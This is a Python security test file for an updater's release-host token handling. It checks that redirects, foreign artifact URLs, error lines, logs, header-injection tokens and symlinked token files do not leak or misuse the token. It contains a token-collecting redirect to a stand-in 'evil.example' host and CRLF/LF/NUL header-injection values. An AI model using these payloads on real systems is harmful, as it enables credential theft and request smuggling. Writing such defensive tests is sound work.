"""Attacks on a private release host's token (PILOT_UPDATE_TOKEN, PILOT_UPDATE_TOKEN_FILE).

Each case reads the token as the updater does (`pilot.config.release_auth` from the environment, for
the configured manifest URL), fetches with `HttpFetcher(auth=...)` from real servers on 127.0.0.1, and
lets the attacker's server try to obtain the token or to smuggle a header in with it. The attacker's
server records every header it is sent: the token must be in none of them, in no error line and in no
log record, and a setting that cannot be used is refused (exit 4) before any request.
"""

from __future__ import annotations

import logging
import os
import re

import pytest

from pilot.config import load_config, release_auth
from pilot.errors import ConfigError, DownloadError, ManifestError
from pilot.net import TOKEN_HINT, one_line
from pilot.update.fetch import HttpFetcher
from pilot.update.manifest import check_artifact_url, release_root
from tests.support.auth_host import (  # noqa: F401 (the fixtures)
    BODY,
    TOKEN,
    Host,
    manifest_url,
    other_host_fixture,
    private_host_fixture,
)


def threat(name: str, defence: str):
    return pytest.mark.threat("attack", name, defence=defence)


def client_for(url: str, env: dict[str, str], **kw) -> HttpFetcher:
    return HttpFetcher(auth=release_auth(load_config(env=env), url, env), retries=0, sleep=lambda s: None, **kw)


def never_saw_the_token(server: Host) -> None:
    assert server.seen, "the attack was not even tried"
    assert all(TOKEN not in value for headers in server.seen for value in headers.values())


@threat("redirect of the manifest to another port of the release host, to collect the token",
        "the header is added per hop, only for the manifest URL's scheme://host:port")
def test_redirect_to_another_port_collects_no_token(private_host, other_host):
    url = manifest_url(private_host)
    private_host.redirects["/stable/manifest.json"] = manifest_url(other_host)
    assert client_for(url, {"PILOT_UPDATE_TOKEN": TOKEN}).fetch(url, max_bytes=1000).data == BODY
    never_saw_the_token(other_host)


@threat("redirect of a custom token header (a CDN's) to another allowed host",
        "per-hop headers: unlike urllib3's remove_headers_on_redirect, which keeps custom headers")
def test_redirect_of_a_custom_header_to_another_host_collects_no_token(site, other_host):
    with Host(site, header="X-Cdn-Key", expected=TOKEN) as cdn:
        url = manifest_url(cdn)
        cdn.redirects["/stable/manifest.json"] = manifest_url(other_host, "localhost")
        env = {"PILOT_UPDATE_TOKEN": TOKEN, "PILOT_UPDATE_AUTH_HEADER": "X-Cdn-Key"}
        client = client_for(url, env, allowed_hosts=frozenset({"127.0.0.1", "localhost"}))
        assert client.fetch(url, max_bytes=1000).data == BODY
    never_saw_the_token(other_host)


@threat("artifact URL on another server of the same host, to collect the token",
        "refused as outside the release root; and the fetcher would not send the token there")
def test_artifact_url_on_another_server_collects_no_token(private_host, other_host):
    url = manifest_url(private_host)
    artifact = f"{other_host.url}/releases/2.0.0/pilot.pyz"
    with pytest.raises(ManifestError, match="another host than the manifest"):
        check_artifact_url(artifact, release_root(url))
    client = client_for(url, {"PILOT_UPDATE_TOKEN": TOKEN})
    assert b"".join(client.stream(artifact, size=len(BODY))) == BODY  # even if it were fetched
    never_saw_the_token(other_host)


@threat("release host echoing the token into a redirect's URL, to put it into the client's log",
        "every DownloadError of a fetcher with a token is redacted")
def test_token_echoed_into_a_refused_redirect_is_not_shown(private_host, caplog):
    url = manifest_url(private_host)
    private_host.redirects["/stable/manifest.json"] = f"http://evil.example/collect?t={TOKEN}"
    with caplog.at_level(logging.DEBUG), pytest.raises(DownloadError) as raised:
        client_for(url, {"PILOT_UPDATE_TOKEN": TOKEN}).fetch(url, max_bytes=1000)
    line = raised.value.one_line()
    assert "refused redirect" in line and "[redacted]" in line and TOKEN not in line
    assert all(TOKEN not in record.getMessage() for record in caplog.records)


@pytest.mark.parametrize("token", ["t\r\nX-Injected: 1", "t\nHost: evil.example", "t\x00x"], ids=["CRLF", "LF", "NUL"])
@threat("token that injects a header or splits the request", "only visible ASCII is sent; refused before any request")
def test_header_injection_through_the_token_is_refused_before_any_request(private_host, token):
    url = manifest_url(private_host)
    refusal = "PILOT_UPDATE_TOKEN: the token holds a space, a control or a non-ASCII character"
    with pytest.raises(ConfigError, match=f"^{re.escape(refusal)}$") as raised:
        client_for(url, {"PILOT_UPDATE_TOKEN": token}).fetch(url, max_bytes=1000)  # what the updater would do
    assert raised.value.exit_code == 4 and raised.value.hint == TOKEN_HINT
    line = raised.value.one_line()
    assert token not in line and one_line(token) not in line  # neither raw nor escaped
    assert "Injected" not in line and "evil.example" not in line
    assert private_host.seen == []  # the fetch would have reached the release host had the token got that far


@threat("token file replaced by a link to a file others can read",
        "the opened file's own mode is checked (fstat), as ssh checks a private key")
def test_token_file_linked_to_a_world_readable_file_is_refused(private_host, tmp_path):
    shared = tmp_path / "shared"
    shared.write_text(TOKEN)
    shared.chmod(0o644)
    link = tmp_path / "token"
    os.symlink(shared, link)
    with pytest.raises(ConfigError, match="are too open"):
        client_for(manifest_url(private_host), {"PILOT_UPDATE_TOKEN_FILE": str(link)})
    assert private_host.seen == []
